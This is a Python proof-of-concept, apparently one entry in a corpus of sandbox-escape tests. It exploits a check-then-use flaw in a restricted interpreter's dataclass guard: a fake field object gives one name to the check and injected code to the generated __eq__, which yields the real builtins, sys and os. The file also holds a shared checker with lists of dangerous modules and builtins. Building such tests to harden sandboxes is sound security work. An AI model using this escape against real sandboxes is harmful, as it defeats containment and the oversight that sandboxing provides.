# technique: _guard_classes' _process_class wrapper checks the names of a base dataclass's fields (getattr(f, 'name')) and then hands the class to the real _process_class, which reads f.name again; nothing requires f to be a real dataclasses.Field: an object of the snippet's with a `name` property answers 'x' to the check and any string to the real code.  B.__dataclass_fields__ is a plain dict the snippet can write (the read of __dataclass_fields__ is allowed); _FIELD (the private sentinel _field_type must be) is read from a real Field through the self exemption (def ftype(self): return self._field_type).  The real _process_class pastes the second answer into the __eq__ source it execs from dataclasses' frame (trusted for compile/exec): '(self.NAME,)==(other.NAME,)' with NAME = 'x if G.append(fields.__globals__) else 0'.  The generated __eq__ is never seen by check_code; __globals__ raises no audit event
# source: check-then-use (TOCTOU) on a duck-typed object: 169/181/182 (dataclass field names), 177 (self exemption on a foreign object)
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import dataclasses
from dataclasses import dataclass, fields


@dataclass
class B:
    x: int = 0


def ftype(self):
    return self._field_type  # private read allowed on a parameter named self


FT = ftype(fields(B)[0])
G = []
PAYLOAD = 'x if G.append(fields.' + dn('globals') + ') else 0'


class Proxy:
    _field_type = FT
    init = False
    kw_only = False
    repr = False
    compare = True
    hash = None
    default = dataclasses.MISSING
    default_factory = dataclasses.MISSING
    type = int
    metadata = {}

    def __init__(self):
        self.n = 0

    @property
    def name(self):
        self.n += 1
        return 'x' if self.n == 1 else PAYLOAD  # the check sees 'x', the exec the payload


B.__dataclass_fields__['x'] = Proxy()


try:
    @dataclass(init=False, repr=False, eq=True)
    class D(B):
        """no inspect.signature for the docstring"""

    D() == D()
except BaseException as e:
    print('BLOCKED dataclass:', type(e).__name__, str(e)[:200])

if G and check('dataclasses module globals from generated __eq__', G[0]):
    g = G[0]
    check('real builtins via dataclasses globals', g[dn('builtins')])
    check('real sys module', g['sys'])
    attempt('os through the real __import__', lambda: g[dn('builtins')][dn('import')]('os'))
else:
    print('BLOCKED nothing collected')
